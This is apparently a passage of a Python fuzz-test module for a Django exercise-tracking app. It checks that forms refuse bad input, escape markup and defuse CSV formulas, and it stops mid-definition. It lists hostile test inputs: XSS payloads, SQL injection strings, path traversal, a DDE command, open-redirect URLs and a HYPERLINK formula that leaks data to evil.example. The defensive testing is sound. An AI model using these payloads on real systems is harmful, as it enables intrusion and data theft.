"""
Property-based fuzzing of every form (issue 8, DESIGN.md §8).

Every form gets arbitrary text and numbers: NUL bytes, 10,000-character
strings, unicode, markup, huge and negative numbers, floats, "NaN", "1e309",
nothing at all. For each example:

- no answer is ≥ 500; a refused form answers 400 with the form page;
- no partial row: the session and step counts are unchanged, or grow by one
  session with every one of its steps; a User row only for a valid sign-up;
- when every field is drawn from its valid values, the form is accepted.

pytest-django wraps each test in one transaction and Hypothesis runs all its
examples inside it, so the tests count rows before and after each example.
Password hashing is MD5 in the tests (tests/conftest.py), which keeps the
sign-up and log-in fuzzing to seconds.
"""

import csv
import io
import json
import re
import string
import time
from datetime import date, timedelta
from urllib.parse import quote_from_bytes, urlsplit

import pytest
from axes.utils import reset as axes_reset
from django.contrib.auth import get_user_model
from django.db.models import Count
from django.utils import timezone
from django.utils.html import escape
from hypothesis import (
    HealthCheck,
    currently_in_test_context,
    event,
    example,
    given,
    settings,
)
from hypothesis import strategies as st

from accounts.export import CSV_HEADER, csv_cell
from accounts.models import CompletedSession, StepResult
from exercises.guide import GuidedRun
from exercises.models import Contraindication, Routine
from tests.factories import (
    PASSWORD,
    CompletedSessionFactory,
    StepResultFactory,
    UserFactory,
)
from tests.helpers import html, text_of

User = get_user_model()

FUZZ = settings(
    max_examples=60,
    deadline=None,
    # No .hypothesis/ directory in the working tree; a failure prints its
    # example and a @reproduce_failure blob instead.
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)

GATE_URL = "/routines/beginner/guide/"
SAVE_URL = "/progress/save/beginner/"
LOG_URL = "/progress/log/"
BEGINNER_STEPS = 6
NOTES_MAX = 2000
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
STRONG_PASSWORD = "a much longer new passphrase 42"

# Markup that must never come back raw; each piece is distinctive enough not to
# occur in a template.
MARKUP = [
    "<script>alert(1)</script>",
    "</textarea><script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    "'><svg onload=alert(4)>",
    "<iframe src=javascript:alert(5)>",
]
RAW_MARKERS = ["<script>alert", "<img src=x", "<svg onload", "<iframe src=java"]

NASTY = [
    "",
    " ",
    "\x00",
    "5\x00",
    "\x00\x00\x00",
    "NaN",
    "nan",
    "-NaN",
    "inf",
    "-Infinity",
    "1e309",
    "-1e309",
    "1e-309",
    "0x10",
    "5_0",
    "٥",  # an Arabic-Indic five: int() reads it
    "５",
    " 7 ",
    "5.0",
    "5.5",
    "-0",
    "+3",
    str(10**30),
    str(-(10**30)),
    str(2**63),
    str(2**31),
    "32768",
    "65536",
    "9" * 5000,  # beyond Python's 4,300-digit int() limit
    "1" * 10_000,
    "x" * 10_000,
    "n" * (NOTES_MAX + 1),
    "\u202e\u200b\ufeff",
    "😀" * 50,
    "Zoë Ångström 北京",
    "' OR 1=1 --",
    "'; DROP TABLE accounts_user; --",
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "%00",
    "null",
    "None",
    "true",
    "false",
    "on",
    "yes",
    "no",
    "done",
    "skip",
    "override",
    "profile",
    "\r\n",
    "\t",
    "../../etc/passwd",
    "{{ 7|add:7 }}",
    "{% debug %}",
    *MARKUP,
]

numbers = st.one_of(
    st.integers(min_value=-20, max_value=700),
    st.integers(),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.sampled_from([10**30, -(10**30), 2**15, 2**16, 2**31, 2**63, -1]),
    st.floats(allow_nan=True, allow_infinity=True),
    st.decimals(allow_nan=True, allow_infinity=True),
).map(str)

huge = st.builds(
    lambda piece, times: (piece * times)[:10_000],
    st.text(min_size=1, max_size=8),
    st.integers(min_value=250, max_value=10_000),
)

with_nul = st.builds(
    lambda before, after: before + "\x00" + after,
    st.text(max_size=20),
    st.text(max_size=20),
)

markup = st.lists(
    st.sampled_from([*MARKUP, "x", " ", "&amp;", "\n", '"', "'", "<b>", "&"]),
    min_size=1,
    max_size=6,
).map("".join)

# Anything a field could hold; None means the field is left out of the post.
junk = st.one_of(
    st.none(),
    st.sampled_from(NASTY),
    st.text(max_size=40),
    numbers,
    with_nul,
    huge,
    markup,
)


def either(valid, anything=junk):
    """Half valid values, half anything: nested one_of would flatten and drown them."""
    return st.booleans().flatmap(lambda pick: valid if pick else anything)


pains = st.one_of(st.just(""), st.integers(min_value=0, max_value=10).map(str))
# The time the player measured on a step: none, or whole seconds up to a day.
step_seconds = st.one_of(
    st.just(""), st.integers(min_value=0, max_value=24 * 60 * 60).map(str)
)
notes_ok = st.one_of(
    st.text(max_size=300).map(lambda text: text.replace("\x00", "")),
    markup,
    st.sampled_from(
        ['=HYPERLINK("http://evil.example")', "Felt loose.", "", "n" * NOTES_MAX]
    ),
)


def draw_fields(data, valid):
    """Draw each field's value: all valid, all junk, or a mix; returns (fields, all_valid)."""
    mode = data.draw(st.sampled_from(["valid", "junk", "mixed"]), label="mode")
    event(f"mode {mode}")
    fields = {}
    all_valid = True
    for name, strategy in valid.items():
        use_valid = mode == "valid" or (
            mode == "mixed" and data.draw(st.booleans(), label=f"{name} valid?")
        )
        fields[name] = data.draw(strategy if use_valid else junk, label=name)
        all_valid = all_valid and use_valid
    return {name: value for name, value in fields.items() if value is not None}, (
        all_valid
    )


def rows():
    return CompletedSession.objects.count(), StepResult.objects.count()


def assert_answered(response, *field_names, accepted=(302,)):
    """Never ≥ 500; either accepted, or 400 with the form and its fields."""
    if currently_in_test_context():
        event(f"answered {response.status_code}")
    assert response.status_code < 500, response.status_code
    assert response.status_code in (*accepted, 400), response.status_code
    if response.status_code == 400:
        body = html(response)
        assert "<form" in body
        for name in field_names:
            assert f'name="{name}"' in body, name


def assert_no_partial_session():
    """Every guided session has all of the routine's steps."""
    partial = (
        CompletedSession.objects.filter(client_token__startswith="guided:")
        .annotate(n=Count("steps"))
        .exclude(n=BEGINNER_STEPS)
    )
    assert not partial.exists(), list(partial.values("pk", "n"))


def assert_local_redirect(response):
    parts = urlsplit(response["Location"])
    assert parts.scheme in ("", "http")
    assert parts.netloc in ("", "testserver"), response["Location"]
    assert not response["Location"].startswith(("//", "/\\"))


@pytest.fixture
def ladder(catalogue):
    return list(Routine.objects.ladder().values_list("pk", flat=True))


# Sign-up


usernames_ok = st.from_regex(r"[A-Za-z][A-Za-z0-9_.@+-]{2,11}", fullmatch=True)
passwords_ok = st.text(alphabet=string.ascii_letters + string.digits, max_size=12).map(
    lambda tail: f"{STRONG_PASSWORD} {tail}"
)
emails_ok = st.one_of(
    st.just(""), st.from_regex(r"[a-z]{1,10}@example\.com", fullmatch=True)
)


@FUZZ
@given(data=st.data())
def test_signup_fuzz(client, catalogue, data):
    """A User row, and a waiting guided session, only for a valid sign-up."""
    client.logout()  # a fresh visitor each example
    password = data.draw(passwords_ok, label="valid password")
    fields, all_valid = draw_fields(
        data,
        {
            "username": usernames_ok,
            "email": emails_ok,
            "password1": st.just(password),
            "password2": st.just(password),
            "health_data_consent": st.just("on"),
        },
    )
    pending = data.draw(st.booleans(), label="a guided session waits")
    if pending:
        assert client.post(GATE_URL, {"acknowledged": "on"}).status_code == 302
        saved = client.post(SAVE_URL, {"pain_before": "4", "notes": "before signup"})
        assert saved.status_code == 302
    username = fields.get("username", "")
    taken = "\x00" not in username and (
        User.objects.filter(username__iexact=username).exists()
    )
    users, before = User.objects.count(), rows()

    response = client.post("/accounts/signup/", fields)

    assert_answered(response, "username", "password1", "password2")
    if response.status_code == 302:
        assert response.url == "/accounts/screening/"
        assert User.objects.count() == users + 1
        user = User.objects.latest("pk")
        assert user.check_password(fields["password1"])
        grown = (1, BEGINNER_STEPS) if pending else (0, 0)
        assert rows() == (before[0] + grown[0], before[1] + grown[1])
        if pending:
            assert user.completed_sessions.get().notes == "before signup"
    else:
        assert User.objects.count() == users
        assert rows() == before
    if all_valid and not taken:
        assert response.status_code == 302
    assert_no_partial_session()


# Log-in

# django-axes keeps the username of a failed log-in in a varchar(255).
AXES_USERNAME_MAX = 255
NEXT_URLS = [
    "/progress/",
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "javascript:alert(1)",
    " https://evil.example",
    "\x00//evil.example",
    "http:///evil.example",
]


def post_login(client, username, password, next_url):
    client.logout()
    axes_reset()  # five failures would lock the name out for 15 minutes
    fields = {"username": username, "password": password, "next": next_url}
    fields = {name: value for name, value in fields.items() if value is not None}
    return client.post("/accounts/login/", fields)


@FUZZ
@given(data=st.data())
def test_login_fuzz(client, user, data, settings):
    # Hundreds of failures from one address would lock it (tests/accounts/
    # test_throttle.py); the fuzz is about what one log-in answers.
    settings.LOGIN_FAILURES_PER_ADDRESS = 100_000
    username = data.draw(
        either(
            st.sampled_from(
                [user.username, f"  {user.username} ", user.username.upper()]
            ),
            # Longer names: test_login_with_an_overlong_username_answers_400.
            junk.filter(lambda name: name is None or len(name) <= AXES_USERNAME_MAX),
        ),
        label="username",
    )
    password = data.draw(either(st.just(PASSWORD)), label="password")
    next_url = data.draw(either(st.sampled_from(NEXT_URLS)), label="next")

    response = post_login(client, username, password, next_url)

    assert_answered(response, "username", "password")
    signed_in = client.session.get("_auth_user_id")
    if response.status_code == 302:
        assert password == PASSWORD
        assert signed_in == str(user.pk)
        assert_local_redirect(response)
    else:
        assert signed_in is None
    if username == user.username and password == PASSWORD:
        assert response.status_code == 302


@settings(FUZZ, max_examples=15)
@example(username="x" * (AXES_USERNAME_MAX + 1), password="wrong")
@given(
    username=st.text(
        alphabet=st.characters(codec="utf-8", exclude_characters="\x00"),
        min_size=AXES_USERNAME_MAX + 1,
        max_size=2000,
    ).filter(lambda name: len(name.strip()) > AXES_USERNAME_MAX),
    password=st.one_of(
        st.just(PASSWORD),
        st.text(
            alphabet=st.characters(codec="utf-8", exclude_characters="\x00"),
            min_size=1,
            max_size=30,
        ),
    ),
)
def test_login_with_an_overlong_username_answers_400(client, user, username, password):
    response = post_login(client, username, password, None)

    assert response.status_code == 400
    assert_answered(response, "username", "password")
    assert client.session.get("_auth_user_id") is None


# Log a session


@FUZZ
@given(data=st.data())
def test_log_session_fuzz(signed_in, user, ladder, data):
    today = timezone.localdate()
    fields, all_valid = draw_fields(
        data,
        {
            "date": st.dates(date(2000, 1, 1), today).map(date.isoformat),
            "routine": st.sampled_from(ladder).map(str),
            "minutes": st.one_of(
                st.just(""), st.integers(min_value=1, max_value=600).map(str)
            ),
            "pain_before": pains,
            "pain_after": pains,
            "notes": notes_ok,
            "client_token": st.uuids().map(lambda u: u.hex),
        },
    )
    token = fields.get("client_token", "").strip()
    # PostgreSQL refuses NUL even in a query; the form refuses such a token.
    existing = (
        None
        if "\x00" in token
        else CompletedSession.objects.filter(user=user, client_token=token).first()
    )
    before = rows()

    response = signed_in.post(LOG_URL, fields)

    assert_answered(response, "date", "routine", "notes")
    if response.status_code == 302 and existing:
        assert rows() == before
        assert response.url == existing.get_absolute_url()
    elif response.status_code == 302:
        assert rows() == (before[0] + 1, before[1])
        session = CompletedSession.objects.get(user=user, client_token=token)
        assert response.url == session.get_absolute_url()
        assert session.notes == fields.get("notes", "").strip()
        assert session.routine_id == int(fields["routine"])
        for pain in (session.pain_before, session.pain_after):
            assert pain is None or 0 <= pain <= 10
        assert session.finished_at >= session.started_at
    else:
        assert rows() == before
    if all_valid:
        assert response.status_code == 302


# Edit a session


@FUZZ
@given(data=st.data())
def test_session_edit_fuzz(signed_in, user, data):
    session = CompletedSessionFactory(user=user, notes="as it was")
    StepResultFactory.create_batch(3, session=session)
    fields, all_valid = draw_fields(
        data, {"pain_before": pains, "pain_after": pains, "notes": notes_ok}
    )
    before = rows()

    response = signed_in.post(session.get_absolute_url(), fields)

    assert_answered(response, "pain_before", "pain_after", "notes")
    assert rows() == before
    assert session.steps.count() == 3
    fresh = CompletedSession.objects.get(pk=session.pk)
    if response.status_code == 302:
        assert response.url == session.get_absolute_url()
        assert fresh.notes == fields.get("notes", "").strip()
        for pain in (fresh.pain_before, fresh.pain_after):
            assert pain is None or 0 <= pain <= 10
    else:
        assert (fresh.pain_before, fresh.pain_after, fresh.notes) == (
            5,
            3,
            "as it was",
        )
    if all_valid:
        assert response.status_code == 302


# Profile: the weekly target


@FUZZ
@given(data=st.data())
def test_plan_fuzz(signed_in, user, catalogue, data):
    """The plan and the weekly target (its number of days) change together or not at all."""
    fields, all_valid = draw_fields(
        data,
        {
            "days": st.lists(
                st.sampled_from("0123456"), min_size=1, max_size=7, unique=True
            ),
            "time": st.sampled_from(["06:00", "07:30", "18:00", "23:59"]),
            "level": st.sampled_from(["beginner", "intermediate", "advanced"]),
        },
    )
    was = User.objects.filter(pk=user.pk).values_list("plan_days", "weekly_target")[0]

    response = signed_in.post("/progress/plan/", fields)

    assert_answered(response, "days", "time", "level")
    days, target = User.objects.filter(pk=user.pk).values_list(
        "plan_days", "weekly_target"
    )[0]
    if response.status_code == 302:
        assert 1 <= target == len(days) <= 7
    else:
        assert (days, target) == was
    if all_valid:
        assert response.status_code == 302
        assert days == "".join(sorted(fields["days"]))


# Screening


@FUZZ
@given(data=st.data())
def test_screening_fuzz(signed_in, user, catalogue, data):
    questions = list(Contraindication.objects.screened())
    assert questions
    fields, _ = draw_fields(
        data,
        {
            **{f"condition_{q.pk}": st.sampled_from(["yes", "no"]) for q in questions},
            "from": st.sampled_from(["profile", ""]),
        },
    )
    answers_valid = all(
        fields.get(f"condition_{q.pk}") in ("yes", "no") for q in questions
    )
    user.refresh_from_db()
    conditions = set(user.conditions.values_list("pk", flat=True))
    answered_at = user.screening_answered_at

    response = signed_in.post("/accounts/screening/", fields)

    assert_answered(response, *(f"condition_{q.pk}" for q in questions))
    user.refresh_from_db()
    now = set(user.conditions.values_list("pk", flat=True))
    if response.status_code == 302:
        assert now == {q.pk for q in questions if fields[f"condition_{q.pk}"] == "yes"}
        from_profile = fields.get("from") == "profile"
        assert response.url == ("/accounts/profile/" if from_profile else "/progress/")
    else:
        assert now == conditions
        assert user.screening_answered_at == answered_at
    assert (response.status_code == 302) == answers_valid


# The guide's gate and steps


def run_under_way(client):
    """The safety check was acknowledged: step 1 opens instead of sending back."""
    return client.get(f"{GATE_URL}1/").status_code == 200


@FUZZ
@given(acknowledged=junk, pain=either(pains))
def test_guide_gate_fuzz(client, catalogue, acknowledged, pain):
    client.logout()
    fields = {} if acknowledged is None else {"acknowledged": acknowledged}
    if pain is not None:
        fields["pain_before"] = pain
    pain_ok = pain is None or pain in {"", *map(str, range(11))}

    response = client.post(GATE_URL, fields)

    assert_answered(response, "acknowledged", "pain_before")
    ticked = ticks(acknowledged)
    assert (response.status_code == 302) == (ticked and pain_ok)
    assert run_under_way(client) == (ticked and pain_ok)
    if response.status_code == 302:
        kept = GuidedRun(client.session, "beginner").pain_before
        assert kept == (int(pain) if pain else None)


@FUZZ
@given(
    number=st.one_of(
        st.integers(min_value=1, max_value=BEGINNER_STEPS),
        st.integers(min_value=0, max_value=10**30),
    ),
    action=either(st.sampled_from(["done", "skip", "override"])),
    seconds=either(step_seconds),
)
def test_guide_step_fuzz(client, catalogue, number, action, seconds):
    if not run_under_way(client):
        assert client.post(GATE_URL, {"acknowledged": "on"}).status_code == 302
    fields = {} if action is None else {"action": action}
    if seconds is not None:
        fields["seconds"] = seconds
    run = GuidedRun(client.session, "beginner")
    before = (run.outcome(number), run.seconds(number))

    response = client.post(f"{GATE_URL}{number}/", fields)

    assert response.status_code < 500
    if not 1 <= number <= BEGINNER_STEPS:
        assert response.status_code == 404
        return
    assert_answered(response, "action")
    run = GuidedRun(client.session, "beginner")
    if response.status_code == 400:
        # Nothing marked, nor any time kept.
        assert (run.outcome(number), run.seconds(number)) == before
    seconds_ok = (
        seconds is None
        or seconds in ("",)
        or (seconds.isascii() and seconds.isdigit() and int(seconds) <= 86400)
    )
    if action in ("done", "skip") and seconds_ok:
        assert response.status_code == 302
        marked = {"done": "Marked: Done", "skip": "Marked: Skipped"}[action]
        assert marked in text_of(client.get(f"{GATE_URL}{number}/"))
        # Only a step done keeps its time.
        kept = int(seconds) if seconds and action == "done" else None
        assert run.seconds(number) == kept
    elif action not in ("done", "skip"):
        assert response.status_code == 400
    elif response.status_code == 302 and action == "done":
        # Junk the form still reads as a number (" 12", "12.0"): kept as one.
        assert 0 <= run.seconds(number) <= 86400
    elif response.status_code == 302:
        assert run.seconds(number) is None


# The guided session's finish form


@FUZZ
@given(data=st.data())
def test_guided_save_fuzz(client, user, catalogue, data):
    anonymous = data.draw(st.booleans(), label="anonymous")
    client.logout()
    if not anonymous:
        client.force_login(user)
    # Pain said on the safety check, or not: then the finish form asks it.
    gate_pain = data.draw(pains, label="pain on the safety check")
    gate = {"acknowledged": "on", "pain_before": gate_pain}
    assert client.post(GATE_URL, gate).status_code == 302
    walked = data.draw(
        st.lists(st.sampled_from(["done", "skip"]), max_size=BEGINNER_STEPS),
        label="steps answered",
    )
    for number, action in enumerate(walked, start=1):
        step = client.post(f"{GATE_URL}{number}/", {"action": action})
        assert step.status_code == 302
    asked = {"pain_after": pains, "notes": notes_ok}
    if not gate_pain:
        asked["pain_before"] = pains
    fields, all_valid = draw_fields(data, asked)
    before = rows()

    response = client.post(SAVE_URL, fields)

    assert_answered(response, *asked)
    if response.status_code == 302 and anonymous:
        assert response.url == "/accounts/signup/"
        assert rows() == before
    elif response.status_code == 302:
        assert rows() == (before[0] + 1, before[1] + BEGINNER_STEPS)
        session = CompletedSession.objects.latest("pk")
        assert response.url == session.get_absolute_url()
        assert session.user == user
        assert session.notes == fields.get("notes", "").strip()
        if gate_pain:
            assert session.pain_before == int(gate_pain)
        outcomes = list(session.steps.values_list("outcome", flat=True))
        answered = ["done" if a == "done" else "skipped" for a in walked]
        assert outcomes == answered + ["skipped"] * (BEGINNER_STEPS - len(walked))
    else:
        assert rows() == before
    if all_valid:
        assert response.status_code == 302
    assert_no_partial_session()


# Doctor's clearance and account deletion


def ticks(value):
    """Whether a checkbox posted with this value counts as ticked.

    Django's CheckboxInput reads "false" (any case) as unticked and any other
    non-empty value as ticked: "0" ticks it.
    """
    return bool(value) and value.lower() != "false"


SAFE_NEXT = [None, "/accounts/profile/", "/routines/beginner/guide/", "//evil.example"]


@FUZZ
@given(cleared=either(st.just("on")), next_url=st.sampled_from(SAFE_NEXT))
def test_doctor_clearance_fuzz(signed_in, user, cleared, next_url):
    User.objects.filter(pk=user.pk).update(doctor_cleared_on=None)
    fields = {"cleared": cleared, "next": next_url}
    fields = {name: value for name, value in fields.items() if value is not None}

    response = signed_in.post("/accounts/doctor-clearance/", fields)

    assert response.status_code == 302
    assert_local_redirect(response)
    cleared_on = User.objects.get(pk=user.pk).doctor_cleared_on
    assert (cleared_on is not None) == ticks(cleared)


@FUZZ
@example(next_url="NaN")
@example(next_url=":")
@given(next_url=st.one_of(junk, st.sampled_from(["accounts:delete", "admin:index"])))
def test_doctor_clearance_next_fuzz(signed_in, user, next_url):
    fields = (
        {"cleared": "on"} if next_url is None else {"cleared": "on", "next": next_url}
    )

    response = signed_in.post("/accounts/doctor-clearance/", fields)

    assert response.status_code == 302
    assert_local_redirect(response)
    if next_url is not None and response.url != "/accounts/profile/":
        # Only a path of this site is followed, never a URL name.
        assert response.url.startswith("/")
        assert next_url.strip().startswith("/")


@FUZZ
@example(password=PASSWORD)
@given(password=either(st.sampled_from([PASSWORD, f" {PASSWORD}", PASSWORD.upper()])))
def test_account_delete_fuzz(client, db, password):
    user = UserFactory()
    session = CompletedSessionFactory(user=user)
    StepResultFactory.create_batch(2, session=session)
    client.force_login(user)
    users, before = User.objects.count(), rows()
    fields = {} if password is None else {"password": password}

    response = client.post("/accounts/delete/", fields)

    assert_answered(response, "password")
    if password == PASSWORD:
        assert response.status_code == 302
        assert User.objects.count() == users - 1
        assert rows() == (before[0] - 1, before[1] - 2)
    else:
        assert response.status_code == 400
        assert User.objects.count() == users
        assert rows() == before


# Raw bodies: bytes that are not UTF-8, broken percent-encoding


FORM_POSTS = [
    (
        "/accounts/signup/",
        ["username", "email", "password1", "password2", "health_data_consent"],
        False,
    ),
    ("/accounts/login/", ["username", "password", "next"], False),
    (GATE_URL, ["acknowledged", "pain_before"], False),
    (f"{GATE_URL}1/", ["action", "seconds"], False),
    (SAVE_URL, ["pain_before", "pain_after", "notes"], True),
    (LOG_URL, ["date", "routine", "minutes", "notes", "client_token"], True),
    ("/progress/sessions/{pk}/", ["pain_before", "pain_after", "notes"], True),
    ("/accounts/profile/", ["time_zone"], True),
    ("/progress/plan/", ["days", "time", "level", "next"], True),
    ("/accounts/screening/", ["condition_{pk}", "from"], True),
]


def raw_body(names):
    value = st.one_of(
        st.binary(max_size=40),
        st.binary(max_size=40).map(lambda b: quote_from_bytes(b).encode()),
        st.sampled_from([b"%", b"%0", b"%zz", b"%00", b"%ff%fe", b"\xc3\x28", b"+"]),
    )
    pair = st.tuples(st.sampled_from([n.encode() for n in names]), value).map(
        lambda kv: kv[0] + b"=" + kv[1]
    )
    return st.one_of(
        st.lists(pair, max_size=6).map(b"&".join),
        st.binary(max_size=200),
    )


@pytest.mark.parametrize(("url", "names", "needs_account"), FORM_POSTS)
def test_forms_survive_raw_bodies(client, user, catalogue, url, names, needs_account):
    session = CompletedSessionFactory(user=user, client_token="raw-fixture")
    url = url.format(pk=session.pk)
    if "condition_{pk}" in names:
        names = ["from"] + [
            f"condition_{pk}"
            for pk in Contraindication.objects.screened().values_list("pk", flat=True)
        ]

    @settings(FUZZ, max_examples=20)
    @given(body=raw_body(names))
    def post_raw(body):
        client.logout()
        axes_reset()
        if needs_account:
            client.force_login(user)
        assert client.post(GATE_URL, {"acknowledged": "on"}).status_code == 302
        before = rows()
        response = client.post(
            url, body, content_type="application/x-www-form-urlencoded"
        )
        assert_answered(response)
        grown = (rows()[0] - before[0], rows()[1] - before[1])
        assert grown in ((0, 0), (1, 0), (1, BEGINNER_STEPS))
        assert_no_partial_session()

    post_raw()


# A NUL byte in any one field, the others valid: PostgreSQL cannot store NUL
# in text, so each form must refuse it with 400 before the database sees it.

NUL_FIELDS = [
    ("signup", "username"),
    ("signup", "email"),
    ("signup", "password1"),
    ("login", "username"),
    ("login", "password"),
    ("log", "date"),
    ("log", "routine"),
    ("log", "minutes"),
    ("log", "pain_before"),
    ("log", "notes"),
    ("log", "client_token"),
    ("edit", "pain_after"),
    ("edit", "notes"),
    ("profile", "time_zone"),
    ("plan", "days"),
    ("plan", "time"),
    ("plan", "level"),
    ("screening", "condition"),
    ("save", "pain_before"),
    ("save", "notes"),
    ("step", "action"),
    ("step", "seconds"),
    ("gate", "pain_before"),
]


@pytest.mark.parametrize(("form", "name"), NUL_FIELDS)
def test_a_nul_byte_in_any_field_answers_400(client, user, ladder, form, name):
    session = CompletedSessionFactory(user=user)
    condition = Contraindication.objects.screened().first()
    forms = {
        "signup": (
            "/accounts/signup/",
            {
                "username": "nulltester",
                "email": "nul@example.com",
                "password1": STRONG_PASSWORD,
                "password2": STRONG_PASSWORD,
                "health_data_consent": "on",
            },
        ),
        "login": (
            "/accounts/login/",
            {"username": user.username, "password": PASSWORD},
        ),
        "log": (
            LOG_URL,
            {
                "date": timezone.localdate().isoformat(),
                "routine": str(ladder[0]),
                "minutes": "10",
                "pain_before": "4",
                "notes": "fine",
                "client_token": "nul-test",
            },
        ),
        "edit": (session.get_absolute_url(), {"pain_after": "2", "notes": "fine"}),
        "profile": ("/accounts/profile/", {"time_zone": "Asia/Tokyo"}),
        "plan": (
            "/progress/plan/",
            {"days": "1", "time": "07:30", "level": "beginner"},
        ),
        "screening": ("/accounts/screening/", {"condition": "no"}),
        "save": (SAVE_URL, {"pain_before": "4", "notes": "fine"}),
        "step": (f"{GATE_URL}1/", {"action": "done", "seconds": "60"}),
        "gate": (GATE_URL, {"acknowledged": "on", "pain_before": "4"}),
    }
    url, fields = forms[form]
    if form == "screening":
        fields = {
            f"condition_{q.pk}": "no" for q in Contraindication.objects.screened()
        }
        name = f"condition_{condition.pk}"
    if form not in ("signup", "login"):
        client.force_login(user)
    assert client.post(GATE_URL, {"acknowledged": "on"}).status_code == 302
    users, before = User.objects.count(), rows()

    fields[name] = "a\x00b"
    if name == "password1":
        fields["password2"] = fields[name]
    response = client.post(url, fields)

    assert response.status_code == 400
    assert_answered(response, name)
    assert (User.objects.count(), rows()) == (users, before)
    assert client.session.get("_auth_user_id") == (
        None if form in ("signup", "login") else str(user.pk)
    )


# Notes come back escaped


def assert_escaped(body, notes):
    for marker in RAW_MARKERS:
        assert marker not in body
    for piece in MARKUP:
        if piece in notes:
            assert piece not in body


def log_today(client, routine, notes, token, **fields):
    data = {"date": timezone.localdate().isoformat(), "routine": routine}
    data |= {"notes": notes, "client_token": token, **fields}
    assert client.post(LOG_URL, data).status_code == 302


def test_script_in_notes_is_escaped_on_every_page(signed_in, user, ladder):
    notes = "<script>alert(1)</script>"
    log_today(signed_in, ladder[0], notes, "escape-me", minutes="10")
    session = CompletedSession.objects.get(client_token="escape-me")
    assert session.notes == notes

    escaped = "&lt;script&gt;alert(1)&lt;/script&gt;"
    for url in ("/progress/history/", session.get_absolute_url()):
        body = html(signed_in.get(url))
        assert escaped in body, url
        assert notes not in body, url
    assert notes not in html(signed_in.get("/progress/"))


@FUZZ
@given(notes=markup)
def test_markup_in_notes_never_comes_back_raw(signed_in, user, notes):
    session = CompletedSessionFactory(user=user)
    response = signed_in.post(session.get_absolute_url(), {"notes": notes})
    assert response.status_code == 302
    stored = CompletedSession.objects.get(pk=session.pk).notes
    assert stored == notes.strip()

    detail = html(signed_in.get(session.get_absolute_url()))
    assert escape(stored) in detail
    assert_escaped(detail, stored)
    assert_escaped(html(signed_in.get("/progress/history/")), stored)
    assert_escaped(html(signed_in.get("/progress/")), stored)


# The CSV export


def export_rows(client):
    response = client.get("/progress/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body, newline="")))


@given(
    value=st.one_of(
        st.text(),
        st.sampled_from(FORMULA_STARTS).flatmap(
            lambda first: st.text().map(lambda rest: first + rest)
        ),
    )
)
@settings(max_examples=500, deadline=None, database=None)
def test_csv_cell_never_starts_a_formula_and_loses_nothing(value):
    cell = csv_cell(value)

    assert not cell.startswith(("=", "+", "-", "@"))
    assert not cell.startswith(("\t", "\r"))
    # No cell a “,” “;” tab or line break could start runs as a formula...
    assert not re.search(r'[,;\t\r\n][ \t]*"?[=+\-@]', cell)
    # ...and nothing is lost: only apostrophes are added, each before a formula.
    assert cell.replace("'", "") == value.replace("'", "")
    if value.startswith(FORMULA_STARTS):
        assert cell.startswith("'" + value[0])


def test_csv_cell_of_numbers_and_nothing():
    assert csv_cell(None) == ""
    assert csv_cell(3) == "3"
    assert csv_cell(-1) == "'-1"
    assert csv_cell(12.5) == "12.5"


def test_formula_in_notes_is_quoted_in_the_csv(signed_in, user, ladder):
    notes = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    log_today(signed_in, ladder[0], notes, "formula")

    rows_ = export_rows(signed_in)

    assert rows_[1][-1] == "'" + notes


@pytest.mark.parametrize("first", FORMULA_STARTS)
def test_every_formula_start_is_quoted_in_the_csv(signed_in, user, first):
    CompletedSessionFactory(user=user, notes=f"{first}1+1", routine_title=f"{first}R")

    row = export_rows(signed_in)[1]

    assert row[-1] == f"'{first}1+1"
    assert row[CSV_HEADER.index("routine")] == f"'{first}R"


@FUZZ
@given(
    notes=st.one_of(
        st.text(max_size=200),
        markup,
        st.sampled_from(FORMULA_STARTS).flatmap(
            lambda first: st.text(max_size=50).map(lambda rest: first + rest)
        ),
    ).map(lambda text: text.replace("\x00", ""))  # no database keeps NUL in text
)
def test_export_keeps_any_note_and_defuses_formulas(signed_in, user, notes):
    CompletedSession.objects.filter(user=user).delete()
    CompletedSessionFactory(user=user, notes=notes)

    row = export_rows(signed_in)[1]

    assert row[-1] == csv_cell(notes)
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


# The offline save (issue 27.11): a JSON body the service worker sends, read
# as a whole against one schema before anything reads it. Whatever comes, the
# answer is JSON the phone can show: 400 when it can never be recorded (the
# phone drops it), 409 when it is kept there, 200/201 when recorded.

OFFLINE_SAVE_URL = "/progress/save-offline/"


def offline_run(**changes):
    """A valid run of the beginner routine, as the offline guide sends it."""
    finished = timezone.now() - timedelta(minutes=30)
    data = {
        "routine": "beginner",
        "token": "offline:" + "c3" * 16,
        "owner": None,
        "doctor_cleared": False,
        "doctor_cleared_for": [],
        "acknowledged": True,
        "started": (finished - timedelta(minutes=12)).isoformat(),
        "finished": finished.isoformat(),
        "pain_before": 4,
        "pain_after": 2,
        "notes": "Stiff this morning.",
        "overridden": [],
        "steps": [{"outcome": "done", "seconds": 60}] * BEGINNER_STEPS,
    }
    return {**data, **changes}


def nested(opening, closing, times, inside=b"1"):
    return opening * times + inside + closing * times


# Each once answered 500.
BROKEN_OFFLINE_BODIES = {
    "an unclosed list 100,000 deep": b"[" * 100_000,
    "an object nested 100,000 deep": nested(b'{"a": ', b"}", 100_000),
    "an object nested 3,000 deep, under 20 KB": nested(b'{"a": ', b"}", 3_000),
    "a list nested 2,000 deep in the steps": b'{"routine": "beginner", "steps": '
    + nested(b"[", b"]", 2_000)
    + b"}",
    "a NUL in the routine": json.dumps({"routine": "begin\u0000ner"}).encode(),
    "a lone high surrogate for the routine": json.dumps({"routine": "\ud800"}).encode(),
    "a lone low surrogate in the routine": json.dumps(
        {"routine": "beginner\udc80"}
    ).encode(),
}

# Under 64 KB, but each once took seconds of CPU to refuse: every quote
# with no closing one began a scan to the end of the body.
SLOW_OFFLINE_BODIES = {
    "a string of 32,000 escaped quotes, never closed": b'"' + b'\\"' * 32_000,
